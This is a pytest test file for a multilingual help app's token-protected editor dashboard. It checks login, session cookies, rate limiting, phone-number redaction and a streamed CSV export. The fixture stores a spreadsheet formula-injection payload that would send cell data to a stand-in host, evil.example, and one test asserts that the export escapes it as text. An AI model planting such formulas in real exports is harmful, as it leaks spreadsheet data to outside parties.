"""The editors' area: token-protected dashboard and CSV export."""

import csv
import io
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from api.admin_session import AdminSessions
from veiviser.editorial.ended_sessions import EndedSessions
from api.main import create_app
from veiviser.settings import Settings
from veiviser.storage.insight import InsightStore

TOKEN = "s3cret-editor-token"


@pytest.fixture
def admin_client(settings: Settings, tmp_path: Path) -> Iterator[TestClient]:
    database = f"sqlite:///{tmp_path / 'veiviser.db'}"
    store = InsightStore(database)
    for language in ("uk", "ar"):
        store.record("when does the Rema 1000 shop open, my phone is 41234567", language, None, None,
                     "abstained", 0.1, now=datetime(2026, 11, 20, 9, tzinfo=UTC))
    store.record("Як отримати fødselsnummer?", "uk", "registration-and-id", "d-number-and-national-id-number",
                 "answered", 0.93, now=datetime(2026, 11, 21, 9, tzinfo=UTC))
    # someone typed a spreadsheet formula as a question
    store.record('=HYPERLINK("http://evil.example/?"&A1,"click")', "en", None, None, "abstained", 0.1,
                 now=datetime(2026, 11, 21, 10, tzinfo=UTC))
    app = create_app(settings.model_copy(update={"admin_token": TOKEN, "database_url": database,
                                                 "rasa_url": "http://127.0.0.1:9"}))
    with TestClient(app) as client:
        yield client


def test_the_dashboard_needs_the_token(admin_client: TestClient) -> None:
    assert admin_client.get("/admin").status_code == 401
    assert admin_client.get("/admin/export.csv").status_code == 401
    wrong = admin_client.post("/admin/login", data={"token": "guess"})
    assert wrong.status_code == 401 and "do not match an active account" in wrong.text


def test_dashboard_shows_charts_clusters_and_redacted_examples(admin_client: TestClient) -> None:
    login = admin_client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
    assert login.status_code == 303 and "httponly" in login.headers["set-cookie"].lower()
    page = admin_client.get("/admin")
    assert page.status_code == 200
    assert page.text.count("<rect") >= 5  # bars for topics, languages and days
    assert "when does the Rema 1000 shop open, my phone is [phone]" in page.text
    assert "41234567" not in page.text
    assert "content-security-policy" in page.headers


def test_csv_export_with_a_bearer_token(admin_client: TestClient) -> None:
    response = admin_client.get("/admin/export.csv", headers={"Authorization": f"Bearer {TOKEN}"})
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    lines = response.text.strip().splitlines()
    assert lines[0].startswith("hour,language,topic") and len(lines) == 5
    assert "41234567" not in response.text
    rows = list(csv.reader(io.StringIO(response.text)))
    assert rows[-1][-1] == ''''=HYPERLINK("http://evil.example/?"&A1,"click")'''  # shown as text, never run


def test_the_export_is_streamed_in_batches_and_holds_every_row(admin_client: TestClient, settings: Settings,
                                                               tmp_path: Path) -> None:
    store = InsightStore(f"sqlite:///{tmp_path / 'veiviser.db'}")
    for number in range(1200):
        store.record(f"question {number}", "nb", None, None, "answered", 0.9, now=datetime(2026, 11, 22, tzinfo=UTC))
    with admin_client.stream("GET", "/admin/export.csv", headers={"Authorization": f"Bearer {TOKEN}"}) as response:
        chunks = list(response.iter_text())
    assert len(chunks) >= 3  # written as it is read, 500 rows at a time
    assert "".join(chunks).count("question ") == 1200


def test_preview_form_reports_a_broken_draft(admin_client: TestClient) -> None:
    headers = {"Authorization": f"Bearer {TOKEN}"}
    response = admin_client.post("/admin/preview", data={"language": "en", "draft": "---\nslug: school\n---\n"},
                                 headers=headers)
    assert response.status_code == 200 and "missing required field" in response.text
    assert admin_client.post("/admin/preview", data={"language": "en", "draft": "x"}).status_code == 401


def test_preview_takes_a_whole_ukrainian_article_file_and_refuses_a_flood(admin_client: TestClient,
                                                                           settings: Settings) -> None:
    headers = {"Authorization": f"Bearer {TOKEN}"}
    draft = (settings.knowledge_dir / "norwegian-training-right-and-duty" / "uk.md").read_text(encoding="utf-8")
    response = admin_client.post("/admin/preview", data={"language": "uk", "draft": draft}, headers=headers)
    assert response.status_code == 200, response.text[:200]  # ~30 kB as a form: over the API's 16 kB limit
    flood = admin_client.post("/admin/preview", data={"language": "uk", "draft": "и" * 250_000}, headers=headers)
    assert flood.status_code == 413
    assert admin_client.post("/api/chat", content=b"x" * 20_000).status_code == 413  # other routes keep 16 kB


def test_production_refuses_the_default_token(settings: Settings) -> None:
    with pytest.raises(ValueError, match="ADMIN_TOKEN"):
        Settings(environment="production", admin_token="change-me")


def test_the_session_cookie_never_holds_the_token_and_logout_ends_it(admin_client: TestClient) -> None:
    login = admin_client.post("/admin/login", data={"token": TOKEN}, follow_redirects=False)
    cookie = admin_client.cookies.get("veiviser_admin")
    assert cookie and TOKEN not in cookie and TOKEN not in login.headers["set-cookie"]
    assert "max-age=28800" in login.headers["set-cookie"].lower()
    assert admin_client.get("/admin").status_code == 200
    admin_client.post("/admin/logout", follow_redirects=False)
    admin_client.cookies.set("veiviser_admin", cookie)  # even if the browser kept it
    assert admin_client.get("/admin").status_code == 401


def test_a_forged_or_expired_session_is_refused(tmp_path: Path) -> None:
    ended = EndedSessions(f"sqlite:///{tmp_path / 'sessions.db'}")
    sessions = AdminSessions("token-a", ended)
    cookie = sessions.issue(now=1_000_000.0)
    assert sessions.valid(cookie, now=1_000_001.0)
    assert not sessions.valid(cookie, now=1_000_000.0 + 8 * 3600 + 1)  # expired
    session_id, expires, name, role, signature = cookie.split(".")
    assert not sessions.valid(f"{session_id}.{int(expires) + 3600}.{name}.{role}.{signature}", now=1_000_001.0)
    assert not sessions.valid(f"{session_id}.{expires}.{name}.viewer.{signature}", now=1_000_001.0)  # role
    assert not AdminSessions("token-b", ended).valid(cookie, now=1_000_001.0)  # a new token ends every session


def test_a_logout_on_one_worker_ends_the_session_on_the_others(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'shared.db'}"  # PostgreSQL in scale-out: the database the workers share
    first, second = AdminSessions("token", EndedSessions(url)), AdminSessions("token", EndedSessions(url))
    cookie, other = first.issue(now=1_000_000.0), first.issue(now=1_000_000.0)
    assert second.valid(cookie, now=1_000_010.0)
    first.end(cookie, now=1_000_020.0)
    assert not second.valid(cookie, now=1_000_030.0) and not first.valid(cookie, now=1_000_030.0)
    assert second.valid(other, now=1_000_030.0)  # only that session
    ended = EndedSessions(url)
    later = first.issue(now=1_000_000.0 + 9 * 3600)
    first.end(later, now=1_000_000.0 + 9 * 3600)  # a later logout drops the ids of cookies that expired
    assert not ended.is_ended(cookie.split(".")[0]) and ended.is_ended(later.split(".")[0])
    assert not second.valid(cookie, now=1_000_030.0 + 9 * 3600)  # expired: refused by its own date


def test_guessing_the_token_is_rate_limited(admin_client: TestClient) -> None:
    codes = [admin_client.post("/admin/login", data={"token": f"guess-{n}"}).status_code for n in range(7)]
    assert codes[:5] == [401] * 5 and codes[-1] == 429


def test_the_default_token_only_on_loopback(settings: Settings) -> None:
    with pytest.raises(ValueError, match="loopback only"):
        Settings(host="0.0.0.0", admin_token="change-me")
    Settings(host="0.0.0.0", admin_token="a-real-secret")
    with pytest.raises(ValueError, match="ADMIN_TOKEN"):
        create_app(settings.model_copy(update={"host": "0.0.0.0", "admin_token": "change-me"}))
